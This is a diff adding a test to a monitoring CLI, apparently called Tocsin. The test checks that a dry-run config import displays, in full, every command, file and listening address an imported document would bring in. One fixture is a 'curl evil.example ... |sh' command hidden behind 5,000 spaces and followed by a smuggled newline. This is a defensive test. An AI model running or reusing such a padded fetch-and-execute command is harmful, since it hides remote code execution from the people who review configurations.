@@ -13,11 +13,13 @@ from cli.exit_codes import ExitCode
 from domain.actors import Actor
 from store import sources
 from store.database import open_store
+from tests.certificates import make_authority
 from tests.program import Tocsin
 
 SECRET = "whsec_" + "MDEyMzQ1Njc4OWFiY2RlZjAxMjM0NTY3"
 TOKEN = "Bearer abcdefgh-12345678"
 KEY = "the key of the broker"
+BRINGS = "The document brings these commands, files and addresses:"
 CLEAR = (SECRET, TOKEN, KEY)
 
 
@@ -182,6 +184,50 @@ def test_a_dry_run_prints_and_does_nothing(full: Tocsin) -> None:
         "alert interface_up: danger 9 -> 3",
     ]
     assert revealed(full) == before
+
+
+def test_what_a_document_lets_this_host_run_read_and_listen_on_is_shown_whole(
+    tocsin: Tocsin, tmp_path: Path
+) -> None:
+    ca_file = make_authority(tmp_path).file
+    command = "sh -c 'curl evil.example" + " " * 5_000 + "|sh'\nNothing to change."
+    listen = {"listen": "0.0.0.0:80", "certificate": "/x/c.pem", "private_key": "/x/k.pem"}
+    document: dict[str, Any] = {
+        "version": 1,
+        "settings": {"geo_db": "/x/geo.mmdb", "proxy": "http://proxy.example:3128", "linger": "0s"},
+        "webhooks": [{"type": "alerts", "url": "https://a.example/", "ca_file": str(ca_file)}],
+        "sources": [
+            {"name": "wg", "kind": "wireguard", "options": {"command": command}},
+            {"name": "web", "kind": "http", "options": listen},
+            {"name": "sock", "kind": "socket", "options": {"path": "/x/sock", "group": "adm"}},
+            {"name": "auth", "kind": "journal", "options": {"file": "/x/auth.log"}},
+            {"name": "cloud", "kind": "procustodibus"},
+        ],
+    }
+    brought = [
+        "  setting: geo_db /x/geo.mmdb",
+        "  setting: proxy http://proxy.example:3128",
+        f"  webhook https://a.example/: ca_file {ca_file}",
+        f"  source wg: command {command}".replace("\n", "\\x0a"),
+        "  source wg: conf_folder /etc/wireguard",
+        "  source web: listen 0.0.0.0:80",
+        "  source web: certificate /x/c.pem",
+        "  source web: private_key /x/k.pem",
+        "  source sock: path /x/sock",
+        "  source auth: file /x/auth.log",
+        "  source cloud: url https://api.custodib.us",
+    ]
+    text = json.dumps(document)
+    lines = tocsin.run("config", "import", "-", "--dry-run", stdin=text).stdout.splitlines()
+    assert lines[lines.index(BRINGS) + 1 :] == brought
+    asked = tocsin.run("config", "import", "-", stdin=text).stderr.splitlines()
+    assert asked[:-1] == [BRINGS, *brought]
+    assert asked[-1].startswith("tocsin: Make 9 changes in ")
+    bring(tocsin, document)
+    document["sources"][0]["options"]["command"] = "wg show wg0 dump"
+    document["sources"][1]["options"]["clients"] = "7"
+    lines = bring(tocsin, document, "--dry-run").splitlines()
+    assert lines[lines.index(BRINGS) + 1 :] == ["  source wg: command wg show wg0 dump"]
 
 
 def test_it_asks_before_it_changes(tocsin: Tocsin) -> None:
